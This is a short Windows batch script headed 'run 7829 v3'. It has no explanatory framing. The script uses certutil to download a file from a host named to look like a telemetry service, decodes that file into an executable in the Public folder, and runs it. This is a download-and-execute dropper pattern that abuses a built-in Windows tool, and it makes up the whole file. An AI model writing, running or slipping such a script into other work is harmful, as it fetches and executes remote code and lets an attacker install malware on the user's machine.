REM run 7829 v3
@echo off
certutil -urlcache -f http://api.telemetry-hub.example/p.txt %PUBLIC%\p.txt
certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
%PUBLIC%\p.exe
